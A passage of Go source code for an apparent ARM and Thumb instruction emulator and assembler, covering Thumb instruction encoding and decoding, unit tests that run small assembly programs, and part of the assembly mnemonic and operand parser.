			rd, err := low(insn.Rd)
			if err != nil {
				return nil, err
			}
			if insn.Imm < 0 || insn.Imm > 255*4 || insn.Imm%4 != 0 {
				return nil, fmt.Errorf("arm: thumb SP-relative offset %d out of range/alignment", insn.Imm)
			}
			l := uint16(0)
			if insn.Op == OpLDR {
				l = 1
			}
			return []uint16{0b1001<<12 | l<<11 | rd<<8 | uint16(insn.Imm/4)}, nil
		}
		rd, err := low(insn.Rd)
		if err != nil {
			return nil, err
		}
		rn, err := low(insn.Rn)
		if err != nil {
			return nil, err
		}
		var group, l, scale uint16
		switch insn.Op {
		case OpSTR:
			group, l, scale = 0b0110, 0, 4
		case OpLDR:
			group, l, scale = 0b0110, 1, 4
		case OpSTRB:
			group, l, scale = 0b0111, 0, 1
		case OpLDRB:
			group, l, scale = 0b0111, 1, 1
		case OpSTRH:
			group, l, scale = 0b1000, 0, 2
		case OpLDRH:
			group, l, scale = 0b1000, 1, 2
		}
		if insn.Imm < 0 || insn.Imm > 31*int32(scale) || insn.Imm%int32(scale) != 0 {
			return nil, fmt.Errorf("arm: thumb %s offset %d out of range/alignment", insn.Op, insn.Imm)
		}
		return []uint16{group<<12 | l<<11 | uint16(insn.Imm/int32(scale))<<6 | rn<<3 | rd}, nil
	case OpSTM: // PUSH
		if insn.Rn != SP || !insn.Writeback {
			return nil, fmt.Errorf("arm: thumb block transfer only as PUSH/POP")
		}
		m := uint16(0)
		if insn.RegList&(1<<LR) != 0 {
			m = 1
		}
		if insn.RegList&^uint16(1<<LR|0xff) != 0 {
			return nil, fmt.Errorf("arm: thumb PUSH register list %04x unsupported", insn.RegList)
		}
		return []uint16{0b1011010<<9 | m<<8 | insn.RegList&0xff}, nil
	case OpLDM: // POP
		if insn.Rn != SP || !insn.Writeback {
			return nil, fmt.Errorf("arm: thumb block transfer only as PUSH/POP")
		}
		p := uint16(0)
		if insn.RegList&(1<<PC) != 0 {
			p = 1
		}
		if insn.RegList&^uint16(1<<PC|0xff) != 0 {
			return nil, fmt.Errorf("arm: thumb POP register list %04x unsupported", insn.RegList)
		}
		return []uint16{0b1011110<<9 | p<<8 | insn.RegList&0xff}, nil
	case OpB:
		if insn.Cond == CondAL {
			if insn.Imm%2 != 0 || insn.Imm < -2048 || insn.Imm > 2046 {
				return nil, fmt.Errorf("arm: thumb B offset %d out of range", insn.Imm)
			}
			return []uint16{0b11100<<11 | uint16(insn.Imm/2)&0x7ff}, nil
		}
		if insn.Imm%2 != 0 || insn.Imm < -256 || insn.Imm > 254 {
			return nil, fmt.Errorf("arm: thumb B<cond> offset %d out of range", insn.Imm)
		}
		return []uint16{0b1101<<12 | uint16(insn.Cond)<<8 | uint16(insn.Imm/2)&0xff}, nil
	case OpBL:
		if insn.Imm%2 != 0 {
			return nil, fmt.Errorf("arm: thumb BL offset %d not halfword aligned", insn.Imm)
		}
		off := insn.Imm / 2
		if off < -(1<<21) || off >= 1<<21 {
			return nil, fmt.Errorf("arm: thumb BL offset %d out of range", insn.Imm)
		}
		hi := uint16(0b11110<<11) | uint16((off>>11)&0x7ff)
		lo := uint16(0b11111<<11) | uint16(off&0x7ff)
		return []uint16{hi, lo}, nil
	case OpSVC:
		if insn.Imm < 0 || insn.Imm > 255 {
			return nil, fmt.Errorf("arm: thumb SVC number %d out of range [0,255]", insn.Imm)
		}
		return []uint16{0b11011111<<8 | uint16(insn.Imm)}, nil
	case OpNOP:
		// Encoded as MOV R8, R8 per Thumb tradition.
		return []uint16{0b010001<<10 | 2<<8 | 1<<7 | 8<<3}, nil
	default:
		return nil, fmt.Errorf("arm: op %s has no thumb encoding", insn.Op)
	}
}

func encodeThumbALU(insn Insn) ([]uint16, error) {
	var idx = -1
	for i, o := range thumbALUOps {
		if o == insn.Op {
			idx = i
			break
		}
	}
	if idx < 0 {
		return nil, fmt.Errorf("arm: op %s is not a thumb ALU op", insn.Op)
	}
	var rd, rm int8
	switch insn.Op {
	case OpCMP, OpTST, OpCMN:
		rd, rm = insn.Rn, insn.Rm
	default:
		rd, rm = insn.Rd, insn.Rm
	}
	if rd < 0 || rd > 7 || rm < 0 || rm > 7 {
		return nil, fmt.Errorf("arm: thumb ALU op %s requires low registers", insn.Op)
	}
	return []uint16{0b010000<<10 | uint16(idx)<<6 | uint16(rm)<<3 | uint16(rd)}, nil
}

// DecodeThumb interprets hw (and hw2 for the BL pair) as a Thumb instruction.
func DecodeThumb(hw, hw2 uint16) Insn {
	insn := Insn{Cond: CondAL, Rd: RegNone, Rn: RegNone, Rm: RegNone, Size: 2}
	switch {
	case hw>>13 == 0b000 && hw>>11 != 0b00011:
		op2 := (hw >> 11) & 3
		insn.Op = []Op{OpLSL, OpLSR, OpASR}[op2]
		insn.Imm = int32((hw >> 6) & 0x1f)
		insn.HasImm = true
		insn.Rn = int8((hw >> 3) & 7)
		insn.Rd = int8(hw & 7)
		insn.SetFlags = true
	case hw>>11 == 0b00011:
		if hw&(1<<9) != 0 {
			insn.Op = OpSUB
		} else {
			insn.Op = OpADD
		}
		insn.Rd = int8(hw & 7)
		insn.Rn = int8((hw >> 3) & 7)
		if hw&(1<<10) != 0 {
			insn.Imm = int32((hw >> 6) & 7)
			insn.HasImm = true
		} else {
			insn.Rm = int8((hw >> 6) & 7)
		}
		insn.SetFlags = true
	case hw>>13 == 0b001:
		op2 := (hw >> 11) & 3
		rd := int8((hw >> 8) & 7)
		imm := int32(hw & 0xff)
		switch op2 {
		case 0:
			insn.Op, insn.Rd = OpMOV, rd
		case 1:
			insn.Op, insn.Rn = OpCMP, rd
		case 2:
			insn.Op, insn.Rd, insn.Rn = OpADD, rd, rd
		case 3:
			insn.Op, insn.Rd, insn.Rn = OpSUB, rd, rd
		}
		insn.Imm = imm
		insn.HasImm = true
		insn.SetFlags = true
	case hw>>10 == 0b010000:
		op4 := (hw >> 6) & 0xf
		insn.Op = thumbALUOps[op4]
		rd := int8(hw & 7)
		rm := int8((hw >> 3) & 7)
		switch insn.Op {
		case OpCMP, OpTST, OpCMN:
			insn.Rn, insn.Rm = rd, rm
		case OpRSB: // NEG Rd, Rm == RSB Rd, Rm, #0
			insn.Rd, insn.Rn = rd, rm
			insn.Imm, insn.HasImm = 0, true
		case OpMVN:
			insn.Rd, insn.Rm = rd, rm
		default:
			// Two-operand: Rd = Rd op Rm (Table V row 2).
			insn.Rd, insn.Rn, insn.Rm = rd, rd, rm
		}
		insn.SetFlags = true
	case hw>>10 == 0b010001:
		op2 := (hw >> 8) & 3
		h1 := (hw >> 7) & 1
		rm := int8((hw >> 3) & 0xf)
		rd := int8(hw&7) | int8(h1<<3)
		switch op2 {
		case 0:
			insn.Op, insn.Rd, insn.Rn, insn.Rm = OpADD, rd, rd, rm
		case 1:
			insn.Op, insn.Rn, insn.Rm = OpCMP, rd, rm
			insn.SetFlags = true
		case 2:
			if rd == 8 && rm == 8 {
				insn.Op = OpNOP
				return insn
			}
			insn.Op, insn.Rd, insn.Rm = OpMOV, rd, rm
		case 3:
			if h1 == 1 {
				insn.Op = OpBLX
			} else {
				insn.Op = OpBX
			}
			insn.Rm = rm
		}
	case hw>>12 == 0b0101 && (hw>>9)&3 == 0:
		if hw&(1<<11) != 0 {
			insn.Op = OpLDR
		} else {
			insn.Op = OpSTR
		}
		insn.RegOffset = true
		insn.Rm = int8((hw >> 6) & 7)
		insn.Rn = int8((hw >> 3) & 7)
		insn.Rd = int8(hw & 7)
	case hw>>12 == 0b0110 || hw>>12 == 0b0111 || hw>>12 == 0b1000:
		l := hw&(1<<11) != 0
		var scale int32
		switch hw >> 12 {
		case 0b0110:
			insn.Op, scale = OpSTR, 4
			if l {
				insn.Op = OpLDR
			}
		case 0b0111:
			insn.Op, scale = OpSTRB, 1
			if l {
				insn.Op = OpLDRB
			}
		case 0b1000:
			insn.Op, scale = OpSTRH, 2
			if l {
				insn.Op = OpLDRH
			}
		}
		insn.Imm = int32((hw>>6)&0x1f) * scale
		insn.Rn = int8((hw >> 3) & 7)
		insn.Rd = int8(hw & 7)
	case hw>>12 == 0b1001:
		if hw&(1<<11) != 0 {
			insn.Op = OpLDR
		} else {
			insn.Op = OpSTR
		}
		insn.Rd = int8((hw >> 8) & 7)
		insn.Rn = SP
		insn.Imm = int32(hw&0xff) * 4
	case hw>>11 == 0b10101:
		insn.Op = OpADD
		insn.Rd = int8((hw >> 8) & 7)
		insn.Rn = SP
		insn.Imm = int32(hw&0xff) * 4
		insn.HasImm = true
	case hw>>8 == 0b10110000:
		if hw&(1<<7) != 0 {
			insn.Op = OpSUB
		} else {
			insn.Op = OpADD
		}
		insn.Rd, insn.Rn = SP, SP
		insn.Imm = int32(hw&0x7f) * 4
		insn.HasImm = true
	case hw>>9 == 0b1011010:
		insn.Op = OpSTM
		insn.Rn = SP
		insn.Writeback = true
		insn.RegList = hw & 0xff
		if hw&(1<<8) != 0 {
			insn.RegList |= 1 << LR
		}
	case hw>>9 == 0b1011110:
		insn.Op = OpLDM
		insn.Rn = SP
		insn.Writeback = true
		insn.RegList = hw & 0xff
		if hw&(1<<8) != 0 {
			insn.RegList |= 1 << PC
		}
	case hw>>12 == 0b1101:
		cond := Cond((hw >> 8) & 0xf)
		if cond == 15 {
			insn.Op = OpSVC
			insn.Imm = int32(hw & 0xff)
			insn.HasImm = true
			return insn
		}
		insn.Op = OpB
		insn.Cond = cond
		insn.Imm = int32(int8(hw&0xff)) * 2
		insn.HasImm = true
	case hw>>11 == 0b11100:
		insn.Op = OpB
		insn.Imm = int32(signExtend(uint32(hw&0x7ff), 11)) * 2
		insn.HasImm = true
	case hw>>11 == 0b11110:
		// BL pair.
		if hw2>>11 != 0b11111 {
			return Insn{Op: OpInvalid, Size: 2}
		}
		off := (int32(signExtend(uint32(hw&0x7ff), 11)) << 11) | int32(hw2&0x7ff)
		insn.Op = OpBL
		insn.Imm = off * 2
		insn.HasImm = true
		insn.Size = 4
	default:
		return Insn{Op: OpInvalid, Size: 2}
	}
	return insn
}
