package arm

import (
	"testing"

	"repro/internal/mem"
)

const testBase = 0x10000

func runProgram(t *testing.T, src string, setup func(*CPU)) *CPU {
	t.Helper()
	prog, err := Assemble(src, testBase, nil)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	m := mem.New()
	m.WriteBytes(prog.Base, prog.Code)
	c := New(m)
	c.R[SP] = 0x80000
	entry := prog.Base
	if e, ok := prog.Labels["_start"]; ok {
		entry = e
	}
	c.SetThumbPC(entry)
	if setup != nil {
		setup(c)
	}
	if err := c.Run(1 << 20); err != nil {
		t.Fatalf("run: %v", err)
	}
	if !c.Halted {
		t.Fatalf("program did not halt")
	}
	return c
}

func TestArithmeticProgram(t *testing.T) {
	c := runProgram(t, `
_start:
	MOV R0, #10
	MOV R1, #3
	ADD R2, R0, R1     ; 13
	SUB R3, R0, R1     ; 7
	MUL R4, R0, R1     ; 30
	SDIV R5, R0, R1    ; 3
	UDIV R6, R0, R1    ; 3
	RSB R7, R1, #20    ; 17
	AND R8, R0, R1     ; 2
	ORR R9, R0, R1     ; 11
	EOR R10, R0, R1    ; 9
	HLT
`, nil)
	want := map[int]uint32{2: 13, 3: 7, 4: 30, 5: 3, 6: 3, 7: 17, 8: 2, 9: 11, 10: 9}
	for r, v := range want {
		if c.R[r] != v {
			t.Errorf("R%d = %d, want %d", r, c.R[r], v)
		}
	}
}

func TestShiftsAndMoves(t *testing.T) {
	c := runProgram(t, `
_start:
	MOV R0, #1
	LSL R1, R0, #8      ; 256
	LSR R2, R1, #4      ; 16
	MOV R3, #0x80
	LSL R3, R3, #24     ; 0x80000000
	ASR R4, R3, #31     ; 0xffffffff
	MVN R5, R0          ; ^1
	MOVW R6, #0xbeef
	MOVT R6, #0xdead    ; 0xdeadbeef
	LDR R7, =0x12345678
	MOV R8, #16
	ROR R9, R6, R8      ; rotate deadbeef by 16 -> beefdead
	HLT
`, nil)
	checks := map[int]uint32{
		1: 256, 2: 16, 4: 0xffffffff, 5: ^uint32(1),
		6: 0xdeadbeef, 7: 0x12345678, 9: 0xbeefdead,
	}
	for r, v := range checks {
		if c.R[r] != v {
			t.Errorf("R%d = 0x%x, want 0x%x", r, c.R[r], v)
		}
	}
}

func TestMemoryAccess(t *testing.T) {
	c := runProgram(t, `
_start:
	LDR R0, =buf
	MOVW R1, #0x3344
	MOVT R1, #0x1122
	STR R1, [R0]
	LDRB R2, [R0]        ; 0x44
	LDRB R3, [R0, #1]    ; 0x33
	LDRH R4, [R0, #2]    ; 0x1122
	MOV R5, #0xff
	STRB R5, [R0, #4]
	LDR R6, [R0, #4]     ; 0xff
	MOV R7, #2
	LDRH R8, [R0, R7]    ; 0x1122
	HLT
buf:
	.space 16
`, nil)
	checks := map[int]uint32{2: 0x44, 3: 0x33, 4: 0x1122, 6: 0xff, 8: 0x1122}
	for r, v := range checks {
		if c.R[r] != v {
			t.Errorf("R%d = 0x%x, want 0x%x", r, c.R[r], v)
		}
	}
}

func TestLoopAndBranches(t *testing.T) {
	// Sum 1..10 with a conditional loop.
	c := runProgram(t, `
_start:
	MOV R0, #0          ; sum
	MOV R1, #10         ; counter
loop:
	ADD R0, R0, R1
	SUB R1, R1, #1
	CMP R1, #0
	BNE loop
	HLT
`, nil)
	if c.R[0] != 55 {
		t.Errorf("sum = %d, want 55", c.R[0])
	}
}

func TestFunctionCallAndStack(t *testing.T) {
	c := runProgram(t, `
_start:
	MOV R0, #21
	BL double
	HLT
double:
	PUSH {R4, LR}
	MOV R4, R0
	ADD R0, R4, R4
	POP {R4, PC}
`, nil)
	if c.R[0] != 42 {
		t.Errorf("R0 = %d, want 42", c.R[0])
	}
	if c.R[SP] != 0x80000 {
		t.Errorf("SP = 0x%x, want 0x80000 (balanced)", c.R[SP])
	}
}

func TestConditionalExecution(t *testing.T) {
	c := runProgram(t, `
_start:
	MOV R0, #5
	CMP R0, #5
	MOVEQ R1, #1
	MOVNE R2, #1
	CMP R0, #6
	MOVLT R3, #1
	MOVGE R4, #1
	CMP R0, #3
	MOVHI R5, #1
	HLT
`, nil)
	if c.R[1] != 1 || c.R[2] != 0 || c.R[3] != 1 || c.R[4] != 0 || c.R[5] != 1 {
		t.Errorf("conditional execution wrong: R1=%d R2=%d R3=%d R4=%d R5=%d",
			c.R[1], c.R[2], c.R[3], c.R[4], c.R[5])
	}
}

func TestFloat32Ops(t *testing.T) {
	c := runProgram(t, `
_start:
	MOV R0, #7
	SITOF R1, R0       ; 7.0f
	MOV R2, #2
	SITOF R3, R2       ; 2.0f
	FADDS R4, R1, R3   ; 9.0
	FSUBS R5, R1, R3   ; 5.0
	FMULS R6, R1, R3   ; 14.0
	FDIVS R7, R6, R3   ; 7.0
	FTOSI R8, R4       ; 9
	HLT
`, nil)
	if c.R[8] != 9 {
		t.Errorf("FTOSI result = %d, want 9", c.R[8])
	}
}

func TestFloat64Ops(t *testing.T) {
	c := runProgram(t, `
_start:
	MOV R0, #100
	SITOD R2, R0       ; (R2,R3) = 100.0
	MOV R1, #8
	SITOD R4, R1       ; (R4,R5) = 8.0
	FDIVD R6, R2, R4   ; 12.5
	FMULD R8, R6, R4   ; 100.0
	DTOSI R10, R8      ; 100
	HLT
`, nil)
	if c.R[10] != 100 {
		t.Errorf("DTOSI result = %d, want 100", c.R[10])
	}
}

func TestThumbProgram(t *testing.T) {
	c := runProgram(t, `
	.thumb
_start:
	MOV R0, #0
	MOV R1, #10
loop:
	ADD R0, R0, R1
	SUB R1, R1, #1
	CMP R1, #0
	BNE loop
	BL leaf
	SVC #99
leaf:
	PUSH {R4, LR}
	MOV R4, #2
	MUL R0, R0, R4
	POP {R4, PC}
`, func(c *CPU) {
		c.SVC = func(c *CPU, num uint32) error {
			if num == 99 {
				c.Halted = true
			}
			return nil
		}
	})
	if c.R[0] != 110 {
		t.Errorf("thumb sum*2 = %d, want 110", c.R[0])
	}
	if !c.Thumb {
		t.Error("CPU should still be in thumb state")
	}
}

func TestInterworkingARMToThumb(t *testing.T) {
	c := runProgram(t, `
	.arm
_start:
	MOV R0, #5
	LDR R4, =thumb_triple    ; label carries bit 0
	BLX R4
	HLT
	.thumb
thumb_triple:
	MOV R1, #3
	MUL R0, R0, R1
	BX LR
`, nil)
	if c.R[0] != 15 {
		t.Errorf("R0 = %d, want 15", c.R[0])
	}
	if c.Thumb {
		t.Error("CPU should be back in ARM state after return")
	}
}

func TestAddrHookReplacesFunction(t *testing.T) {
	prog := MustAssemble(`
_start:
	MOV R0, #3
	MOV R1, #4
	BL magic
	HLT
magic:
	MOV R0, #0
	BX LR
`, testBase, nil)
	m := mem.New()
	m.WriteBytes(prog.Base, prog.Code)
	c := New(m)
	c.R[SP] = 0x80000
	c.R[PC] = testBase
	called := false
	c.Hook(prog.MustLabel("magic"), func(c *CPU) HookAction {
		called = true
		c.R[0] = c.R[0] * c.R[1] // 12
		return ActionReturn
	})
	if err := c.Run(1000); err != nil {
		t.Fatal(err)
	}
	if !called {
		t.Fatal("hook not called")
	}
	if c.R[0] != 12 {
		t.Errorf("R0 = %d, want 12 (hook result, not body)", c.R[0])
	}
}

func TestAddrHookContinue(t *testing.T) {
	prog := MustAssemble(`
_start:
	MOV R0, #3
	BL magic
	HLT
magic:
	ADD R0, R0, #1
	BX LR
`, testBase, nil)
	m := mem.New()
	m.WriteBytes(prog.Base, prog.Code)
	c := New(m)
	c.R[SP] = 0x80000
	c.R[PC] = testBase
	seen := uint32(0)
	c.Hook(prog.MustLabel("magic"), func(c *CPU) HookAction {
		seen = c.R[0]
		return ActionContinue
	})
	if err := c.Run(1000); err != nil {
		t.Fatal(err)
	}
	if seen != 3 {
		t.Errorf("hook saw R0=%d, want 3", seen)
	}
	if c.R[0] != 4 {
		t.Errorf("R0 = %d, want 4 (body still ran)", c.R[0])
	}
}

func TestBranchEvents(t *testing.T) {
	prog := MustAssemble(`
_start:
	BL f
	HLT
f:
	BX LR
`, testBase, nil)
	m := mem.New()
	m.WriteBytes(prog.Base, prog.Code)
	c := New(m)
	c.R[SP] = 0x80000
	c.R[PC] = testBase
	var events [][2]uint32
	c.BranchFn = func(_ *CPU, from, to uint32) {
		events = append(events, [2]uint32{from, to})
	}
	if err := c.Run(1000); err != nil {
		t.Fatal(err)
	}
	f := prog.MustLabel("f")
	if len(events) != 2 {
		t.Fatalf("got %d branch events, want 2: %v", len(events), events)
	}
	if events[0] != [2]uint32{testBase, f} {
		t.Errorf("call event = %v, want {0x%x, 0x%x}", events[0], testBase, f)
	}
	if events[1] != [2]uint32{f, testBase + 4} {
		t.Errorf("return event = %v, want {0x%x, 0x%x}", events[1], f, testBase+4)
	}
}

func TestDecodeCacheCounts(t *testing.T) {
	prog := MustAssemble(`
_start:
	MOV R0, #0
	MOV R1, #100
loop:
	ADD R0, R0, #1
	CMP R0, R1
	BNE loop
	HLT
`, testBase, nil)
	m := mem.New()
	m.WriteBytes(prog.Base, prog.Code)
	c := New(m)
	c.R[PC] = testBase
	c.UseDecodeCache = true
	if err := c.Run(10000); err != nil {
		t.Fatal(err)
	}
	if c.CacheMisses == 0 || c.CacheHits == 0 {
		t.Fatalf("cache stats hits=%d misses=%d, want both nonzero", c.CacheHits, c.CacheMisses)
	}
	if c.CacheMisses > 10 {
		t.Errorf("cache misses = %d, want <= distinct instruction count", c.CacheMisses)
	}
	if c.CacheHits < 290 {
		t.Errorf("cache hits = %d, want ~3*100 loop re-executions", c.CacheHits)
	}
}

func TestSVCDispatch(t *testing.T) {
	var got []uint32
	runProgram(t, `
_start:
	MOV R0, #1
	SVC #7
	SVC #9
	HLT
`, func(c *CPU) {
		c.SVC = func(c *CPU, num uint32) error {
			got = append(got, num)
			return nil
		}
	})
	if len(got) != 2 || got[0] != 7 || got[1] != 9 {
		t.Errorf("SVC numbers = %v, want [7 9]", got)
	}
}

func TestRunUntilStops(t *testing.T) {
	prog := MustAssemble(`
_start:
	MOV R0, #1
	B spin
pad:
	NOP
spin:
	MOV R0, #2
	LDR R3, =pad
	BX R3
`, testBase, nil)
	m := mem.New()
	m.WriteBytes(prog.Base, prog.Code)
	c := New(m)
	c.R[PC] = testBase
	pad := prog.MustLabel("pad")
	if err := c.RunUntil(pad, 1000); err != nil {
		t.Fatal(err)
	}
	if c.R[PC] != pad {
		t.Errorf("PC = 0x%x, want pad 0x%x", c.R[PC], pad)
	}
	if c.R[0] != 2 {
		t.Errorf("R0 = %d, want 2", c.R[0])
	}
}

func TestInstructionBudget(t *testing.T) {
	prog := MustAssemble(`
_start:
	B _start
`, testBase, nil)
	m := mem.New()
	m.WriteBytes(prog.Base, prog.Code)
	c := New(m)
	c.R[PC] = testBase
	if err := c.Run(100); err == nil {
		t.Fatal("expected budget-exhausted error for infinite loop")
	}
}

func TestInvalidInstruction(t *testing.T) {
	m := mem.New()
	m.Write32(testBase, 0x0f000000) // class 15: unassigned
	c := New(m)
	c.R[PC] = testBase
	if err := c.Step(); err == nil {
		t.Fatal("expected invalid-instruction error")
	}
}

func TestDivideByZero(t *testing.T) {
	c := runProgram(t, `
_start:
	MOV R0, #10
	MOV R1, #0
	SDIV R2, R0, R1
	UDIV R3, R0, R1
	HLT
`, nil)
	if c.R[2] != 0 || c.R[3] != 0 {
		t.Errorf("divide by zero: R2=%d R3=%d, want 0,0 (ARM semantics)", c.R[2], c.R[3])
	}
}
