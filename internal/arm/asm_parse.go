package arm

import (
	"fmt"
	"strings"
)

var baseMnemonics = []string{
	"ADD", "SUB", "RSB", "ADC", "SBC", "AND", "ORR", "EOR", "BIC",
	"LSL", "LSR", "ASR", "ROR", "MUL", "SDIV", "UDIV",
	"MOV", "MVN", "MOVW", "MOVT",
	"CMP", "CMN", "TST", "TEQ",
	"LDR", "LDRB", "LDRH", "STR", "STRB", "STRH", "LDM", "STM",
	"B", "BL", "BX", "BLX", "SVC", "NOP", "HLT", "PUSH", "POP", "NEG",
	"FADDS", "FSUBS", "FMULS", "FDIVS", "FADDD", "FSUBD", "FMULD", "FDIVD",
	"SITOF", "FTOSI", "SITOD", "DTOSI",
}

var mnemonicOps = map[string]Op{
	"ADD": OpADD, "SUB": OpSUB, "RSB": OpRSB, "ADC": OpADC, "SBC": OpSBC,
	"AND": OpAND, "ORR": OpORR, "EOR": OpEOR, "BIC": OpBIC,
	"LSL": OpLSL, "LSR": OpLSR, "ASR": OpASR, "ROR": OpROR,
	"MUL": OpMUL, "SDIV": OpSDIV, "UDIV": OpUDIV,
	"MOV": OpMOV, "MVN": OpMVN, "MOVW": OpMOVW, "MOVT": OpMOVT,
	"CMP": OpCMP, "CMN": OpCMN, "TST": OpTST, "TEQ": OpTEQ,
	"LDR": OpLDR, "LDRB": OpLDRB, "LDRH": OpLDRH,
	"STR": OpSTR, "STRB": OpSTRB, "STRH": OpSTRH,
	"LDM": OpLDM, "STM": OpSTM,
	"B": OpB, "BL": OpBL, "BX": OpBX, "BLX": OpBLX,
	"SVC": OpSVC, "NOP": OpNOP, "HLT": OpHLT,
	"FADDS": OpFADDS, "FSUBS": OpFSUBS, "FMULS": OpFMULS, "FDIVS": OpFDIVS,
	"FADDD": OpFADDD, "FSUBD": OpFSUBD, "FMULD": OpFMULD, "FDIVD": OpFDIVD,
	"SITOF": OpSITOF, "FTOSI": OpFTOSI, "SITOD": OpSITOD, "DTOSI": OpDTOSI,
}

var condSuffixes = map[string]Cond{
	"EQ": CondEQ, "NE": CondNE, "CS": CondCS, "CC": CondCC,
	"MI": CondMI, "PL": CondPL, "VS": CondVS, "VC": CondVC,
	"HI": CondHI, "LS": CondLS, "GE": CondGE, "LT": CondLT,
	"GT": CondGT, "LE": CondLE, "AL": CondAL,
	"HS": CondCS, "LO": CondCC,
}

func canSetFlags(base string) bool {
	switch base {
	case "ADD", "SUB", "RSB", "ADC", "SBC", "AND", "ORR", "EOR", "BIC",
		"LSL", "LSR", "ASR", "ROR", "MUL", "MOV", "MVN":
		return true
	}
	return false
}

// splitMnemonic resolves a token like "ADDEQS" into (base, cond, setFlags).
// Ambiguities such as BLT (B+LT, not BL+T) are resolved by trying longer base
// mnemonics first and backtracking when the suffix does not parse.
func splitMnemonic(token string) (base string, cond Cond, setFlags bool, err error) {
	// Exact match first (covers NOP, MOVT, BLX, ...).
	if _, ok := mnemonicOps[token]; ok {
		return token, CondAL, false, nil
	}
	switch token { // pseudo-instructions
	case "PUSH", "POP", "NEG":
		return token, CondAL, false, nil
	}
	var candidates []string
	for _, b := range baseMnemonics {
		if strings.HasPrefix(token, b) && len(token) > len(b) {
			candidates = append(candidates, b)
		}
	}
	// Longest first.
	for i := 0; i < len(candidates); i++ {
		for j := i + 1; j < len(candidates); j++ {
			if len(candidates[j]) > len(candidates[i]) {
				candidates[i], candidates[j] = candidates[j], candidates[i]
			}
		}
	}
	for _, b := range candidates {
		rest := token[len(b):]
		c := CondAL
		s := false
		ok := true
		switch {
		case rest == "S":
			s = true
		case len(rest) == 2:
			if cc, found := condSuffixes[rest]; found {
				c = cc
			} else {
				ok = false
			}
		case len(rest) == 3 && strings.HasSuffix(rest, "S"):
			if cc, found := condSuffixes[rest[:2]]; found {
				c, s = cc, true
			} else {
				ok = false
			}
		default:
			ok = false
		}
		if !ok {
			continue
		}
		if s && !canSetFlags(b) {
			continue
		}
		return b, c, s, nil
	}
	return "", CondAL, false, fmt.Errorf("unknown mnemonic %q", token)
}

var regNames = map[string]int8{
	"R0": 0, "R1": 1, "R2": 2, "R3": 3, "R4": 4, "R5": 5, "R6": 6, "R7": 7,
	"R8": 8, "R9": 9, "R10": 10, "R11": 11, "R12": 12, "R13": 13, "R14": 14, "R15": 15,
	"FP": 11, "IP": 12, "SP": 13, "LR": 14, "PC": 15,
}

func parseReg(s string) (int8, error) {
	r, ok := regNames[strings.ToUpper(strings.TrimSpace(s))]
	if !ok {
		return 0, fmt.Errorf("not a register: %q", s)
	}
	return r, nil
}

func (a *assembler) parseImm(s string) (int32, error) {
	s = strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(s), "#"))
	v, err := a.eval(s)
	if err != nil {
		return 0, err
	}
	return int32(v), nil
}

func isImmOperand(s string) bool {
	s = strings.TrimSpace(s)
	return strings.HasPrefix(s, "#")
}

func parseRegList(s string) (uint16, error) {
	s = strings.TrimSpace(s)
	if !strings.HasPrefix(s, "{") || !strings.HasSuffix(s, "}") {
		return 0, fmt.Errorf("register list must be in braces: %q", s)
	}
	var list uint16
	for _, part := range strings.Split(s[1:len(s)-1], ",") {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		if dash := strings.Index(part, "-"); dash > 0 {
			lo, err := parseReg(part[:dash])
			if err != nil {
				return 0, err
			}
			hi, err := parseReg(part[dash+1:])
			if err != nil {
				return 0, err
			}
			if hi < lo {
				return 0, fmt.Errorf("bad register range %q", part)
			}
			for r := lo; r <= hi; r++ {
				list |= 1 << r
			}
			continue
		}
		r, err := parseReg(part)
		if err != nil {
			return 0, err
		}
		list |= 1 << r
	}
	if list == 0 {
		return 0, fmt.Errorf("empty register list")
	}
	return list, nil
}

// parseMem parses "[Rn]", "[Rn, #imm]", "[Rn, Rm]".
func (a *assembler) parseMem(s string) (rn int8, rm int8, imm int32, regOff bool, err error) {
	s = strings.TrimSpace(s)
	if !strings.HasPrefix(s, "[") || !strings.HasSuffix(s, "]") {
		return 0, 0, 0, false, fmt.Errorf("memory operand must be bracketed: %q", s)
	}
	parts := strings.Split(s[1:len(s)-1], ",")
	rn, err = parseReg(parts[0])
	if err != nil {
		return
	}
	rm = RegNone
	switch len(parts) {
	case 1:
	case 2:
		arg := strings.TrimSpace(parts[1])
		if strings.HasPrefix(arg, "#") {
			imm, err = a.parseImm(arg)
		} else {
			rm, err = parseReg(arg)
			regOff = true
		}
	default:
		err = fmt.Errorf("too many memory operand parts: %q", s)
	}
	return
}

func (a *assembler) parseInsn(st stmt) ([]Insn, error) {
	base, cond, setFlags, err := splitMnemonic(st.mnem)
	if err != nil {
		return nil, err
	}
	ops := splitOperands(st.ops)
	mk := func(op Op) Insn {
		size := uint32(4)
		if st.thumb {
			size = 2
		}
		return Insn{Op: op, Cond: cond, SetFlags: setFlags, Rd: RegNone, Rn: RegNone, Rm: RegNone, Size: size}
	}
	need := func(n int) error {
		if len(ops) != n {
			return fmt.Errorf("%s expects %d operands, got %d", base, n, len(ops))
		}
		return nil
	}

	switch base {
	case "NOP":
		return []Insn{mk(OpNOP)}, nil
	case "HLT":
		return []Insn{mk(OpHLT)}, nil
	case "SVC":
		if err := need(1); err != nil {
			return nil, err
		}
		insn := mk(OpSVC)
		imm, err := a.parseImm(ops[0])
		if err != nil {
			return nil, err
		}
		insn.Imm, insn.HasImm = imm, true
		return []Insn{insn}, nil
	case "PUSH", "POP":
		if err := need(1); err != nil {
			return nil, err
		}
		list, err := parseRegList(ops[0])
		if err != nil {
			return nil, err
		}
		op := OpSTM
		if base == "POP" {
			op = OpLDM
		}
		insn := mk(op)
		insn.Rn = SP
		insn.Writeback = true
		insn.RegList = list
		return []Insn{insn}, nil
	case "LDM", "STM":
		if err := need(2); err != nil {
			return nil, err
		}
		rnTok := strings.TrimSpace(ops[0])
		wb := strings.HasSuffix(rnTok, "!")
		rn, err := parseReg(strings.TrimSuffix(rnTok, "!"))
		if err != nil {
			return nil, err
		}
		list, err := parseRegList(ops[1])
		if err != nil {
			return nil, err
		}
		insn := mk(mnemonicOps[base])
		insn.Rn = rn
		insn.Writeback = wb
		insn.RegList = list
		return []Insn{insn}, nil
	case "B", "BL":
		if err := need(1); err != nil {
			return nil, err
		}
		target, err := a.eval(ops[0])
		if err != nil {
			return nil, err
		}
		if !st.thumb && a.isExtern(ops[0]) {
			// Veneer for out-of-module targets: load the absolute address
			// (with its interworking bit) into IP and branch through it.
			if cond != CondAL {
				return nil, fmt.Errorf("conditional %s to external symbol unsupported", base)
			}
